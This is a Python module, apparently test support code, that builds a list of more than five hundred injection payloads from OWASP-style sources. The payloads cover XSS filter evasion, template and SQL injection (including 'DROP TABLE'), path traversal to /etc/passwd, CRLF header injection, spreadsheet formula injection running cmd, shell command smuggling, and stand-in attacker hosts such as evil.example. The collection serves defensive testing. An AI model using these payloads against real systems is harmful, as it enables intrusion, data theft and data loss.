"""Texts that try to be something else: scripts, tags, addresses, queries, templates, headers.

They are put together here from the ways that the literature lists: every way out of a context
(text, an attribute in either quotation mark or none, a comment, a script, a style, a raw-text
element), every event that fires by itself, schemes that run, spellings that filters miss.

References:
    OWASP, "Cross Site Scripting Prevention Cheat Sheet" and "XSS Filter Evasion Cheat Sheet".
    HTML Living Standard, 13.2 (parsing) and 8.1.8 (event handlers).
"""

import itertools

CALL = "window.fired=1"
"""What a script that gets through does; a page that runs it is known by the mark."""

_WAYS_OUT = (
    "",
    '">',
    "'>",
    ">",
    '"',
    "'",
    "-->",
    "</title>",
    "</textarea>",
    "</style>",
    "</script>",
    "</select>",
    "</noscript>",
    "</template>",
    "]]>",
    "</svg>",
)

_EVENTS = (
    "onload",
    "onerror",
    "onfocus",
    "onblur",
    "onmouseover",
    "onclick",
    "ontoggle",
    "onstart",
    "onbegin",
    "onend",
    "onanimationstart",
    "onanimationend",
    "ontransitionend",
    "onpageshow",
    "onhashchange",
    "onpopstate",
    "onscroll",
    "onscrollend",
    "onresize",
    "onwheel",
    "onpointerenter",
    "onpointerrawupdate",
    "oncontentvisibilityautostatechange",
    "onbeforetoggle",
    "onbeforematch",
    "onsecuritypolicyviolation",
    "onmessage",
    "onunhandledrejection",
    "onloadstart",
    "oncanplay",
    "oncuechange",
    "oninput",
    "oninvalid",
    "onselectionchange",
    "onformdata",
)

_TAGS = (
    "<script>{call}</script>",
    "<script src=data:,{call}></script>",
    "<ScRiPt>{call}</sCrIpT>",
    "<script\t>{call}</script\n>",
    "<scr<script>ipt>{call}</scr</script>ipt>",
    "<img src=x onerror={call}>",
    "<img/src=x/onerror={call}>",
    "<img src=`x`onerror={call}>",
    "<image href=x onerror={call}>",
    "<svg onload={call}>",
    "<svg/onload={call}//",
    "<svg><script>{call}</script></svg>",
    "<svg><animate onbegin={call} attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:{call}"><text y=20>x</text></a></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg>'
    '<image href=1 onerror={call} /></svg>#x"></svg>',
    "<svg><foreignObject><iframe srcdoc=<script>{call}</script>></foreignObject></svg>",
    "<math><mi//xlink:href=javascript:{call}>x</mi></math>",
    '<iframe srcdoc="<script>parent.{call}</script>">',
    "<iframe src=javascript:{call}>",
    "<object data=javascript:{call}>",
    "<embed src=javascript:{call}>",
    "<body onload={call}>",
    "<base href=javascript:/a/-{call}//>",
    "<meta http-equiv=refresh content='0;url=javascript:{call}'>",
    "<link rel=stylesheet href=data:,*{{x:expression({call})}}>",
    "<details open ontoggle={call}>",
    "<video><source onerror={call}></video>",
    "<video src=x onerror={call}>",
    "<audio src onerror={call}>",
    "<input autofocus onfocus={call}>",
    "<select autofocus onfocus={call}>",
    "<textarea autofocus onfocus={call}>",
    "<marquee onstart={call}>",
    "<form action=javascript:{call}><button>x</button></form>",
    "<button formaction=javascript:{call}>x</button>",
    "<isindex action=javascript:{call} type=submit>",
    "<a href=javascript:{call}>x</a>",
    "<a href=' javascript:{call}'>x</a>",
    "<a href=java\tscript:{call}>x</a>",
    "<a href=&#106;avascript:{call}>x</a>",
    "<a href=data:text/html,<script>{call}</script>>x</a>",
    "<style>@import 'javascript:{call}';</style>",
    "<style>*{{background:url(javascript:{call})}}</style>",
    "<div style=background:url(javascript:{call})>",
    "<template><img src=x onerror={call}></template>",
    "<noscript><p title='</noscript><img src=x onerror={call}>'>",
    "<xmp><img src=x onerror={call}></xmp>",
    "<!--><img src=x onerror={call}>-->",
    "<![CDATA[<img src=x onerror={call}>]]>",
    "<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>{call}</x:script>",
    "<mglyph><style><!--</style><img title='--><img src=x onerror={call}>'>",
    "<dialog open oncancel={call}>",
    "<portal src=javascript:{call}>",
    "<custom-element tabindex=1 autofocus onfocus={call}>",
)

_ADDRESSES = (
    "javascript:{call}",
    "JaVaScRiPt:{call}",
    "java\nscript:{call}",
    "\x01javascript:{call}",
    "\u00a0javascript:{call}",
    "vbscript:{call}",
    "data:text/html,<script>{call}</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuZmlyZWQ9MTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload={call} xmlns=http://www.w3.org/2000/svg>",
    "//evil.example/x",
    "\\\\evil.example\\x",
    "https:evil.example",
    "http://evil.example@127.0.0.1/",
    "blob:https://evil.example/1",
    "file:///etc/passwd",
    "feed:javascript:{call}",
    "view-source:javascript:{call}",
)

_ELSEWHERE = (
    "{{{{7*7}}}}",
    "{{% import os %}}",
    "${{{call}}}",
    "#{{{call}}}",
    "<%= {call} %>",
    "{{{{constructor.constructor('{call}')()}}}}",
    "{{{{config.items()}}}}",
    "%7B%7B7*7%7D%7D",
    "' OR '1'='1",
    '" OR ""="',
    "'; DROP TABLE act; --",
    "1 UNION SELECT * FROM act --",
    "\\'; SELECT pg_sleep(9); --",
    '" NEAR/2 "*" AND ( OR )',
    "act:* OR speaker:*",
    "*",
    '"',
    "NOT NOT NOT",
    "^(a+)+$",
    "%",
    "_",
    "\\",
    "../../../../etc/passwd",
    "..%2f..%2fetc%2fpasswd",
    "x\r\nSet-Cookie: stolen=1",
    "x\r\n\r\n<script>{call}</script>",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "$(touch /tmp/fired)",
    "`touch /tmp/fired`",
    "; touch /tmp/fired",
    "%00",
    "\x00<script>{call}</script>",
    "\u2028{call}//",
    "\u202e{call}",
    "\ufeff<script>{call}</script>",
    "＜script＞{call}＜/script＞",
    "%253Cscript%253E{call}%253C/script%253E",
    "+ADw-script+AD4-{call}+ADw-/script+AD4-",
    "&lt;script&gt;{call}&lt;/script&gt;",
    "&#60;script&#62;{call}&#60;/script&#62;",
    "\\u003cscript\\u003e{call}\\u003c/script\\u003e",
    "a" * 3000,
    "é" * 1000,
    "\U0001f1eb\U0001f1f7" * 200,
)


def payloads():
    """Every text, each once; more than five hundred."""
    made = [tag.format(call=CALL) for tag in _TAGS]
    made += [way + _TAGS[place % 12].format(call=CALL) for place, way in enumerate(_WAYS_OUT)]
    made += [
        f"{quote} {event}={CALL} {more} x={quote}"
        for event, (quote, more) in itertools.product(
            _EVENTS, (('"', "autofocus"), ("'", "tabindex=0"), ("", "style=animation-name:x"))
        )
    ]
    made += [
        f'"><{tag} {event}="{CALL}" autofocus tabindex=0 open>'
        for tag, event in itertools.product(("x", "a", "details", "input", "svg"), _EVENTS)
    ]
    made += [address.format(call=CALL) for address in _ADDRESSES]
    made += [
        way + tag.format(call=CALL) for way, tag in itertools.product(_WAYS_OUT[1:], _TAGS[::5])
    ]
    made += [text.format(call=CALL) for text in _ELSEWHERE]
    return tuple(dict.fromkeys(made))


PAYLOADS = payloads()
